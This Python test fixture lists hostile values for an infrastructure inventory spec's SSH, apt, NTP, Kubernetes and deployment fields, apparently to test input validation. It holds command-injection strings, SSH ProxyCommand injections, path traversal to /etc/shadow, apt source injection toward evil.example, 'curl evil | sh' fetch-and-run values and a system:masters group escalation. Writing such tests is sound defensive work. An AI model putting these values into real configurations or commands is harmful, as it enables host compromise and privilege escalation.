"""Hostile values for every spec field that reaches a shell, an SSH option, an apt or systemd file, a path or a
Kubernetes object: what an attacker with write access to the inventory repository would try."""

from __future__ import annotations

from typing import Any

P, SSH = "provisioning", ("provisioning", "ssh")

# (where in the spec, the path the error names, the hostile value)
HOSTILE: list[tuple[tuple[str | int, ...], str, Any]] = [
    (
        (*SSH, "known_hosts_file"),
        f"{P}.ssh.known_hosts_file",
        "kh -o ProxyCommand=touch${IFS}/tmp/pwned",
    ),
    ((*SSH, "known_hosts_file"), f"{P}.ssh.known_hosts_file", "$(touch /tmp/pwned)"),
    (
        (*SSH, "known_hosts_file"),
        f"{P}.ssh.known_hosts_file",
        "../../../../root/.ssh/known_hosts",
    ),
    ((*SSH, "private_key_file"), f"{P}.ssh.private_key_file", "`id`"),
    ((*SSH, "private_key_file"), f"{P}.ssh.private_key_file", "-oProxyCommand=id"),
    ((*SSH, "bastion"), f"{P}.ssh.bastion", "-oProxyCommand=id"),
    ((*SSH, "bastion"), f"{P}.ssh.bastion", "jump host;id"),
    ((*SSH, "user"), f"{P}.ssh.user", "root -o ProxyCommand=id"),
    (
        ("provisioning", "apt_repository_url"),
        f"{P}.apt_repository_url",
        "http://mirror/x /\ndeb [trusted=yes] http://evil.example/ ./",
    ),
    ((P, "apt_repository_url"), f"{P}.apt_repository_url", "ftp://mirror.example/repo"),
    (
        ("provisioning", "apt_repository_suite"),
        f"{P}.apt_repository_suite",
        "/ \ndeb [trusted=yes] http://evil/ ./",
    ),
    ((P, "apt_repository_suite"), f"{P}.apt_repository_suite", "../../etc"),
    ((P, "apt_repository_components"), f"{P}.apt_repository_components", "main\nPackage: *"),
    ((P, "apt_key_url"), f"{P}.apt_key_url", "file:///etc/shadow"),
    (
        ("provisioning", "driver_version"),
        f"{P}.driver_version",
        "550.1\nPackage: *\nPin: origin evil\nPin-Priority: 1001",
    ),
    ((P, "driver_version"), f"{P}.driver_version", "$(reboot)"),
    ((P, "container_toolkit_version"), f"{P}.container_toolkit_version", "1.17 && curl evil | sh"),
    (
        (P, "container_runtime", "containerd_version"),
        f"{P}.container_runtime.containerd_version",
        "1.6 && curl evil | sh",
    ),
    ((P, "container_runtime", "sandbox_image"), f"{P}.container_runtime.sandbox_image", 'pause"\n[plugins.evil]'),
    (("cluster", "kubernetes", "api_server_endpoint"), "cluster.kubernetes.api_server_endpoint", "x:6443 --token=y"),
    (("cluster", "kubernetes", "version"), "cluster.kubernetes.version", "1.32.0; reboot"),
    ((P, "timezone"), f"{P}.timezone", "../../../etc/shadow"),
    ((P, "timezone"), f"{P}.timezone", "UTC\nNTP=evil.example"),
    ((P, "ntp_servers", 0), f"{P}.ntp_servers[0]", "pool.ntp.org\nFallbackNTP=evil.example"),
    ((P, "ntp_servers", 0), f"{P}.ntp_servers[0]", "pool.ntp.org RootDistanceMaxSec=999999"),
    (("cluster", "gpu_operator_repository"), "cluster.gpu_operator_repository", "https://x/ --set evil=1"),
    (
        ("cluster", "gpu_operator_chart_version"),
        "cluster.gpu_operator_chart_version",
        "v24.9.2 --post-renderer=/bin/sh",
    ),
    (("cluster", "service_monitor_labels"), "cluster.service_monitor_labels", {"release": "kube prometheus"}),
    (("deployments", 0, "model"), "deployments[qwen-7b].model", "../../../../etc/passwd.json"),
    (("deployments", 0, "model"), "deployments[qwen-7b].model", "/etc/passwd.json"),
    (("deployments", 0, "namespace"), "deployments[qwen-7b].namespace", "kube-system\nx"),
    (("deployments", 0, "namespace"), "deployments[qwen-7b].namespace", "in.ference"),
    (("deployments", 0, "image"), "deployments[qwen-7b].image", "vllm/vllm-openai:v0.8.5 --entrypoint sh"),
    (("deployments", 0, "engine_version"), "deployments[qwen-7b].engine_version", "0.8.5; id"),
    (("deployments", 0, "clients"), "deployments[qwen-7b].clients[0].cidr", [{"cidr": "10.0.0.0/33"}]),
    (("deployments", 0, "clients"), "deployments[qwen-7b].clients[0].cidr", [{"cidr": "0.0.0.0/0 except"}]),
    (("deployments", 0, "clients"), "deployments[qwen-7b].clients[0].namespace", [{"namespace": "Team_A"}]),
    (
        ("deployments", 0, "clients"),
        "deployments[qwen-7b].clients[0].pod_labels",
        [{"namespace": "apps", "pod_labels": {"app": "x y"}}],
    ),
    (("deployments", 0, "env"), "deployments[qwen-7b].env", {"A=B; id": "1"}),
    (("security", "clients", 0, "name"), "security.clients[lab-app:/v1/models 1].name", "lab-app:/v1/models 1"),
    (("security", "clients", 1, "endpoints"), "security.clients[lab-embedder].endpoints[0]", ["/v1/chat completions"]),
    (("security", "teams", 0, "group"), "security.teams[lab].group", "lab\nsystem:masters"),
    (("security", "gateway"), "security.gateway.hostnames[0]", {"hostnames": ["localhost;id"]}),
    (("market",), "market", "eu\x1b[2J\x1b[31mall clear"),
    (("market",), "market", "reads\u202efdp.exe"),
    (
        ("suppressions",),
        "suppressions[0].reason",
        [{"rule": "psu-feed-loss", "target": "*", "reason": "accepted\x00 with a NUL"}],
    ),
]
